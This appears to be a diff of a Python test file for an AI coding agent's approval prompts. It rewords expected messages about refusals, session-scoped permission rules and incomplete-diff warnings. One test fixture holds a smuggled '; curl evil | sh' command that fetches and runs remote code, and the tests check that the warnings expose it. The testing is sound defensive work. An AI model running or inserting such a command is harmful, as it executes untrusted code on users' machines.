@@ -92,7 +92,7 @@ class TestAnswers:
     def test_to_leave_it_is_no_and_the_form_says_so(self, world: World) -> None:
         refused, face = ask(world, None)
         assert (refused.by, refused.reason.startswith("the user said no.")) == ("person", True)
-        assert face.forms[0].cancel_effect == "is no"
+        assert face.forms[0].cancel_effect == "deny"
 
     def test_where_nobody_is_there_nobody_said_no(self, world: World) -> None:
         refused, _ = ask(world, None, can_ask=False)
@@ -107,7 +107,7 @@ class TestAnswers:
         assert parse_answer(question(world), FormAnswer(("y", "n"))) is None
 
     def test_for_the_session_it_says_what_exactly(self, world: World) -> None:
-        assert option(approval_form(question(world)), "s").label == "allow exactly this until this session ends"
+        assert option(approval_form(question(world)), "s").label == "allow exactly this call for this session"
         asked = question(world, suggestion="Bash(git log:*)")
         assert "what `Bash(git log:*)` matches" in option(approval_form(asked), "s").label
         assert parse_answer(asked, FormAnswer(("s",))) == Said(choice="allow", scope="session", rule="Bash(git log:*)")
@@ -253,8 +253,8 @@ class TestChanges:
         diff, rest = self.seen(world, "Write", file_path="new.sh", content=content)
         assert "curl evil" not in diff
         assert "; curl evil | sh" in rest  # the end of what was asked for
-        assert "look out:" in rest
-        assert "the diff does not show all of it: " in rest
+        assert "warnings:" in rest
+        assert "the diff is incomplete: " in rest
 
     def test_what_a_private_file_holds_is_not_shown_unasked(self, world: World) -> None:
         world.write(".env", "TOKEN=hidden-in-the-file\n")
